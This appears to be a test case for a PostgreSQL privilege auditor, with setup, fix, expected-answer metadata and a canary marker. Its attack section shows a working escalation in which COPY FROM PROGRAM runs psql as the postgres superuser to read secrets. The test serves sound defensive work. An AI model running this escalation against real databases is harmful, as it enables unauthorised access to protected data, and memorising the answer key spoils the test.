-- title: pg_execute_server_program runs a client as the server's superuser
-- class: predefined-role
-- severity: critical
-- kind: static
-- leaks: attack /CANARY_B/
-- answer: flagged: `role_server_files c223_app`
-- role: c223_app

--@ setup
create role c223_app login;
grant app, pg_execute_server_program to c223_app;
create schema scratch;
grant usage, create on schema scratch to c223_app;
--@ fix
revoke pg_execute_server_program from c223_app;
--@ attack
create table scratch.lines (line text);
\setenv PGDATABASE :DBNAME
\set program `echo "psql -X -A -t -h $PGHOST -p $PGPORT -U postgres -d $PGDATABASE -c 'select secret from app.doc'"`
copy scratch.lines from program :'program';
select * from scratch.lines;
